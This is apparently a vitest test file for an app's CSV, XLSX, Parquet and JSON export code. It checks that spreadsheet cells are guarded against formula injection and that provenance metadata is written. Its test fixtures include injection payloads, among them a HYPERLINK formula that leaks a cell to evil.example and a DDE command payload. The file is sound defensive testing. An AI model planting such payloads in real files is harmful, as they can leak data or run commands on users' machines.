import { parquetMetadata } from 'hyparquet';
import { describe, expect, it } from 'vitest';
import { exportCsvText } from './export-csv';
import { exportFile } from './export-file';
import { isNeutralised, neutraliseFormula } from './export-guard';
import { readParquet } from './parquet';
import { sniffDialect } from './sniff';
import { stampFileName, type ExportStamp } from './export-stamp';
import type { ExportTable } from './export-table';
import { readXlsx } from './xlsx';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
const SAFE = ['plain', '-12,5', '-3.25', '+45', 'a=b', ''];

const stamp: ExportStamp = {
  dataset: 'Demo: MADE 2017',
  datasetHash: 'ab12cd34ef56'.padEnd(64, '0'),
  scenario: { preset: 'damvad-2017', changed: { deadweight: 0.2 } },
  params: { deadweight: 0.2, horizon_years: 10 },
  appVersion: '0.1.0',
  createdAt: '2026-11-23T10:00:00.000Z',
};

const table: ExportTable = {
  columns: [
    { name: 'label', type: 'VARCHAR' },
    { name: 'gain', type: 'DOUBLE' },
  ],
  rows: [...HOSTILE, ...SAFE].map((label, i) => ({ label, gain: i % 2 === 0 ? -1234.5 - i : 1e6 + 0.25 })),
};

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('prefixes %j', (s) => {
    expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(isNeutralised(s, neutraliseFormula(s))).toBe(true);
  });
  it.each(SAFE)('leaves %j alone', (s) => {
    expect(neutraliseFormula(s)).toBe(s);
  });
});

describe('CSV export', () => {
  it('writes Danish Excel CSV: ;, decimal comma, BOM, hostile text neutralised, negative numbers still numbers', async () => {
    const f = await exportFile('csv-da', table, stamp, 'query', 'da');
    expect([...f.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(f.bytes); // the decoder drops the BOM
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('label;gain');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")";-1234,5`);
    expect(lines[2]).toBe(`'+1+cmd|' /C calc'!A0;1000000,25`);
    expect(text).not.toMatch(/;"?[=+@]/);
    expect(lines.filter((l) => /^"?([=@]|[+-]\D)/.test(l))).toEqual([]);
    expect(sniffDialect(text.slice(0, 2000)).delimiter).toBe(';');
  });

  it('writes , CSV with a decimal point and quotes a field holding the delimiter', () => {
    const text = exportCsvText({ columns: [{ name: 'a' }, { name: 'n' }], rows: [{ a: 'x,y', n: -0.5 }, { a: null, n: null }] }, 'en');
    expect(text).toBe('a,n\r\n"x,y",-0.5\r\n,\r\n');
  });

  it('guards every hostile cell, quoted or not', () => {
    for (const style of ['da', 'en'] as const) {
      const text = exportCsvText(table, style);
      for (const h of HOSTILE) expect(text).toContain(`'${h.replaceAll('"', '""')}`);
    }
  });
});

describe('XLSX export', () => {
  it('stores hostile text as neutralised text, numbers as numbers, and the stamp on its own sheet', async () => {
    const f = await exportFile('xlsx', table, stamp, 'query', 'en');
    const data = await readXlsx(f.bytes, 0);
    expect(data.headers).toEqual(['label', 'gain']);
    HOSTILE.forEach((h, i) => expect(data.rows[i]?.[0]).toBe(`'${h}`));
    expect(data.rows[HOSTILE.length + 1]?.[0]).toBe('-12,5');
    expect(Number(data.rows[0]?.[1])).toBe(-1234.5);
    const meta = await readXlsx(f.bytes, 'Provenance');
    expect(meta.rows.find((r) => r[0] === 'spillover.dataset_sha256')?.[1]).toBe(stamp.datasetHash);
    expect(meta.rows.find((r) => r[0] === 'spillover.scenario_changed')?.[1]).toBe('{"deadweight":0.2}');
  });
});

describe('Parquet and JSON exports', () => {
  it('writes typed Parquet columns with the stamp as key–value metadata', async () => {
    const f = await exportFile('parquet', table, stamp, 'query', 'en');
    const back = await readParquet(f.bytes);
    expect(back.headers).toEqual(['label', 'gain']);
    expect(back.rows[0]?.[0]).toBe(HOSTILE[0]); // not a spreadsheet format: stored exactly
    expect(Number(back.rows[0]?.[1])).toBe(-1234.5);
    const kv = parquetMetadata(f.bytes).key_value_metadata ?? [];
    expect(kv.find((e) => e.key === 'spillover.app_version')?.value).toBe('0.1.0');
  });

  it('writes JSON with the stamp in meta', async () => {
    const f = await exportFile('json', table, stamp, 'query', 'en');
    const o = JSON.parse(new TextDecoder().decode(f.bytes)) as { meta: ExportStamp; rows: { label: string; gain: number }[] };
    expect(o.meta.datasetHash).toBe(stamp.datasetHash);
    expect(o.rows).toHaveLength(table.rows.length);
    expect(o.rows[2]?.gain).toBe(-1236.5);
  });
});

it('puts the stamp’s essentials in the file name', () => {
  expect(stampFileName('Gains by theme', stamp, 'csv')).toBe('gains-by-theme_demo-made-2017-ab12cd34_damvad-2017+1_2026-11-23_v0.1.0.csv');
});
